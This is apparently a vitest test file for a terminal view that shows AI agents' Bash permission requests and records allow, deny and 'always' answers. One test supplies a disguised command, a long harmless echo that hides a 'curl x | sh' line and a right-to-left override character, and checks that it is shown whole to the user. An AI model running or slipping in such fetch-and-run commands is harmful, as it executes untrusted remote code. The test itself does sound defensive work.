import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
import type { EventBody } from '../../protocol/messages.ts';
import { initialState } from '../../projection/state.ts';
import { reduce } from '../../projection/reduce.ts';
import { fakeIo } from '../io.fake.ts';
import { PLAIN } from './cells.ts';
import { liveView } from './liveView.ts';
import { eventsOf, HALF_WAY, RUN_ID, START } from './runEvents.fake.ts';
import type { RunView } from './runView.ts';

function play(view: RunView, bodies: readonly EventBody[]): void {
  let state = initialState(RUN_ID);
  for (const event of eventsOf(bodies)) {
    state = reduce(state, event);
    view.accept(event, state);
  }
}

describe('permissions in the live view', () => {
  beforeEach(() => void vi.useFakeTimers());
  afterEach(() => void vi.useRealTimers());

  const open = (answers: [string, unknown][] = []) => {
    const io = fakeIo({ terminal: { columns: 80, rows: 20 } });
    const view = liveView({
      io,
      paint: PLAIN,
      simulated: true,
      now: () => START + 14_000,
      stopping: () => false,
      onAnswer: (requestId, reply) => answers.push([requestId, reply]),
      onReply: (requestId, answer) => answers.push([requestId, answer]),
    });
    return { io, view };
  };

  const permission = (requestId: string, rules?: readonly string[]): EventBody => ({
    ...{ type: 'permission.asked', requestId, agentId: 'a2', tool: 'Bash', summary: 'make' },
    ...(rules ? { rules } : {}),
  });

  test('a permission for longer than once: the rule is shown, and written only after a second key', () => {
    const answers: [string, unknown][] = [];
    const { io, view } = open(answers);
    const frameAfter = (...keys: readonly string[]): string => {
      for (const key of keys) io.press(key);
      vi.advanceTimersByTime(100);
      return io.out().slice(io.out().lastIndexOf('\u001b[?2026h'));
    };
    play(view, [...HALF_WAY, permission('q1', ['Bash(make)'])]);
    expect(frameAfter()).toContain('r and a add Bash(make)');
    expect(frameAfter('a')).toContain('Add Bash(make) to .claude/settings.local.json?  y yes');
    expect(frameAfter('x')).toContain('y allow once · r for this run · a always');
    expect(answers).toEqual([]);
    frameAfter('a', 'y');
    frameAfter('r');
    expect(answers).toEqual([
      ['q1', { allow: true, scope: 'always' }],
      ['q1', { allow: true, scope: 'run' }],
    ]);
    view.close();
  });

  test('a denial with a reason is typed', () => {
    const answers: [string, unknown][] = [];
    const { io, view } = open(answers);
    play(view, [...HALF_WAY, permission('q1')]);
    for (const key of 'ra') io.press(key);
    for (const key of 'dNoo\u007f, use npm\u001b') io.press(key);
    expect(answers).toEqual([]);
    for (const key of 'dNoo\u007f, use npm\r') io.press(key);
    for (const key of 'd \r') io.press(key);
    expect(answers).toEqual([
      ['q1', { allow: false, reason: 'No, use npm' }],
      ['q1', { allow: false }],
    ]);
    view.close();
  });

  test('a second key that comes too late does not answer the next question', () => {
    const answers: [string, unknown][] = [];
    const { io, view } = open(answers);
    play(view, [...HALF_WAY, permission('q1', ['Bash(make)']), permission('q2', ['Bash(make)'])]);
    io.press('a');
    const gone: EventBody = { type: 'permission.answered', requestId: 'q1', allowed: false, by: 'nobody' };
    play(view, [...HALF_WAY, permission('q1'), permission('q2', ['Bash(make)']), gone]);
    io.press('y');
    expect(answers).toEqual([]);
    io.press('y');
    expect(answers).toEqual([['q2', { allow: true }]]);
    view.close();
  });

  test('a command that has no room in its line is shown whole above it', () => {
    const { io, view } = open();
    const long = `echo ${'a'.repeat(90)} # harmless\ncurl x | sh\u202e`;
    const asked = { ...permission('q1'), summary: long } as EventBody;
    play(view, [...HALF_WAY, asked]);
    vi.advanceTimersByTime(100);
    const shown = io.out().replaceAll('\u001b[K', '');
    expect(shown).toContain(`  echo ${'a'.repeat(90)} # harmless\n  curl x | sh⟨U+202E⟩\n`);
    view.close();
  });

  test('says how many ask the same', () => {
    const { io, view } = open();
    const joined: EventBody = { type: 'permission.joined', requestId: 'q1', agentId: 'a3' };
    play(view, [...HALF_WAY, permission('q1'), joined]);
    vi.advanceTimersByTime(100);
    expect(io.out()).toContain('? fix src/money.js and 1 other ask to use Bash: make');
    view.close();
  });
});
